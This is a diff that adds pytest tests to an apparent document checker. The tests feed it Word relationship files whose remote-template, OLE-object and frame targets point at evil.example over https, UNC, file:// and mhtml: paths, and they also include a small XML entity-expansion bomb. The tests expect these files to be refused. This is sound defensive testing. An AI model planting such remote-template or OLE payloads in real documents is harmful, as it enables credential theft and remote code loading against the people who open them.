@@ -182,3 +182,49 @@ def test_a_picture_keeps_the_right_way_up():
 def test_a_file_that_was_cut_off_is_damaged(tmp_path, kind):
     assert judged(tmp_path, kind, GOOD[kind][:-10]) in {"damaged", "other"}
     assert judged(tmp_path, kind, GOOD[kind][: len(GOOD[kind]) // 2]) in {"damaged", "other"}
+
+
+def rels(kind: str, target: str, mode: str = "External", encoding: str = "utf-8") -> bytes:
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    text = (
+        f'<?xml version="1.0" encoding="{encoding}"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package">'
+        f'<r:Relationship Id="rId1" Type="{office}{kind}" Target="{target}" TargetMode="{mode}"/></r:Relationships>'
+    )
+    return text.encode(encoding)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "https://evil.example/t.dotm"),
+        ("attachedTemplate", "&#104;ttp://evil.example/t.dotm"),
+        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
+        ("attachedTemplate", "file://evil.example/share/t.dotm"),
+        ("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm"),
+        ("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x"),
+        ("oleObject", "html:https://evil.example/"),
+        ("frame", "https://evil.example/"),
+    ],
+)
+def test_a_paper_that_loads_parts_from_elsewhere_is_refused(tmp_path, kind, target, encoding):
+    for name in ("word/_rels/settings.xml.rels", "word/_rels/Document.xml.RELS"):
+        content = samples.docx(**{name: rels(kind, target, encoding=encoding)})
+        assert judged(tmp_path, "docx", content) == "fetches"
+
+
+def test_a_paper_may_link_to_pages_and_name_the_template_of_its_own_machine(tmp_path):
+    for kind, target in (
+        ("hyperlink", "https://songhau.example/"),
+        ("attachedTemplate", "file:///C:\\Users\\An\\Normal.dotm"),
+        ("attachedTemplate", "Normal.dotm"),
+        ("image", "media/image1.png"),
+    ):
+        content = samples.docx(**{"word/_rels/settings.xml.rels": rels(kind, target)})
+        assert judged(tmp_path, "docx", content) == "ok"
+
+
+def test_relations_that_cannot_be_read_are_refused(tmp_path):
+    bomb = b'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>'
+    for content in (bomb, b"<r", b"\xff\xfe<"):
+        assert judged(tmp_path, "docx", samples.docx(**{"word/_rels/a.xml.rels": content})) == "damaged"
